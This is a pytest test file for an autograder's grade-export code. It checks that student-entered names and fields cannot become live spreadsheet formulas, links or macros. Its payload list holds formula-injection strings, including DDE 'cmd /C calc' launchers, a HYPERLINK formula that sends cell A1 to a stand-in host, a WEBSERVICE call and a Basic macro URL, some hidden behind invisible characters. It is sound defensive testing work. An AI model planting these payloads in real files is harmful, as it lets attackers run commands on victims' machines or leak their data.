"""No cell that a student may have filled becomes a formula, a link or a macro in a spreadsheet."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from autograder.exports import SYSTEMS, export
from autograder.gradebook.marks import Person

from .people import HOSTILE, marks_of
from .test_exports import ROSTERS, assert_nothing_runs, rows, write

RUNNING = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1;"open")',
    '=WEBSERVICE("http://x.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u3164=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\r\n=1+1",
    "\u2028=1+1",
    '"=1+1"',
    '";=1+1;"',
    "',=1+1",
    "x\t=1+1",
    "x|=1+1",
    "x;'=1+1",
    "＝1+1",
    "http://x.example/",
    "=1+1\n=2+2",
    "vnd.sun.star.script:Library.Module.Main?language=Basic&location=document",
]
PEOPLE = tuple(
    Person(f"r{n:02}", text, text, f"r{n:02}@example.ch") for n, text in enumerate(RUNNING)
)
KEYS = {
    "moodle": {"Identifier", "Grade", "Maximum Grade"},
    "canvas": {"ID", "Homework 2 (1)"},
    "ilias": {"update", "usr_id", "status", "mark", "notice", "comment", "plagiarism",
              "plag_comment"},
    "gradescope": {"Total Score"},
    "csv": {"total"},
}  # fmt: skip
"""Columns with numbers of the system's own, with marks, or with texts by teachers."""
FIELD = "A field of the profile"


def filled_everywhere(system: str, text: str) -> bytes:
    """Return a system's file with a text in every field that a student may have filled in."""
    header, *body = rows(ROSTERS[system][0](HOSTILE[:3]))
    header = [*header, FIELD]
    changed = []
    for row in body:
        is_person = "Points Possible" not in row[0]
        cells = zip(header, [*row, ""], strict=True)
        changed.append(
            [text if is_person and name not in KEYS[system] else cell for name, cell in cells]
        )
    return write(header, changed)


@pytest.mark.parametrize("system", ROSTERS)
@pytest.mark.parametrize("text", RUNNING)
def test_no_field_of_a_worksheet_runs(system: str, text: str) -> None:
    theirs = filled_everywhere(system, text)
    result = export(marks_of(HOSTILE[:3]), system, theirs)
    assert_nothing_runs(result.content)
    assert [len(row) for row in rows(result.content)] == [len(row) for row in rows(theirs)]


@pytest.mark.parametrize("system", sorted(set(SYSTEMS) - {"ilias"}))
def test_no_field_of_the_gradebook_runs(system: str) -> None:
    assert_nothing_runs(export(marks_of(PEOPLE), system).content)
    ids = tuple(replace(person, id=person.first_name or person.id) for person in PEOPLE)
    assert_nothing_runs(export(marks_of(ids), system).content)


def test_person_who_is_called_like_a_row_of_canvas_is_a_person() -> None:
    header = ("Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 2 (1)")
    possible = ("    Points Possible", "", "", "", "", "30.00")
    body = [("Points Possible", "7", "s01", "=1+1", "=1+1", "(read only)")]
    for theirs in (write(header, [possible, *body]), write(header, [*body, possible])):
        result = export(marks_of(HOSTILE[:1]), "canvas", theirs)
        assert [row[-1] for row in rows(result.content)[1:] if row[1]] == ["1"]
        assert_nothing_runs(result.content)


FILTERS = {
    "commas": "44",
    "semicolons": "59",
    "tabs": "9",
    "every separator": "9/44/59/124",
}


def opened(files: Sequence[Path], folder: Path, separators: str) -> dict[str, str]:
    """Return the files as LibreOffice reads them when it evaluates formulas."""
    options = f"{separators},34,76,1,,0,false,true,false,false,false,-1,true"
    command = [
        "soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile",
        f"--infilter=CSV:{options}", "--convert-to", "fods", "--outdir", str(folder),
    ]  # fmt: skip
    subprocess.run([*command, *map(str, files)], check=True, capture_output=True, timeout=300)
    return {path.stem: path.read_text(encoding="utf-8") for path in folder.glob("*.fods")}


def active(document: str) -> list[str]:
    """Return the active parts of a document: formulas, links, macros and events."""
    return re.findall(
        r'table:formula="[^"]*"|<text:a .*?>|xlink:href="(?!http://www\.)[^"]*x\.example[^"]*"'
        r"|<script:\w+|<table:dde-link.*?>|<office:event-listeners>",
        document,
    )


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("separators", FILTERS.values(), ids=FILTERS)
def test_libreoffice_finds_nothing_to_run_in_any_export(separators: str, tmp_path: Path) -> None:
    people = (*HOSTILE, *PEOPLE)
    for system, (make, _) in ROSTERS.items():
        (tmp_path / f"raw-{system}.csv").write_bytes(make(people))
        filled = export(marks_of(people), system, make(people)).content
        (tmp_path / f"filled-{system}.csv").write_bytes(filled)
    for system in sorted(set(SYSTEMS) - {"ilias"}):
        content = export(marks_of(people), system).content
        (tmp_path / f"own-{system}.csv").write_bytes(content)
    for system in ROSTERS:
        for number, text in enumerate(RUNNING):
            theirs = filled_everywhere(system, text)
            content = export(marks_of(HOSTILE[:3]), system, theirs).content
            (tmp_path / f"field-{system}-{number}.csv").write_bytes(content)
    documents = opened(sorted(tmp_path.glob("*.csv")), tmp_path, separators)
    assert len(documents) == len(list(tmp_path.glob("*.csv")))
    found = {name: things for name, document in documents.items() if (things := active(document))}
    assert {name for name in found if not name.startswith("raw-")} == set(), found
    assert separators == "9" or found, "where names stand as they came, something runs"
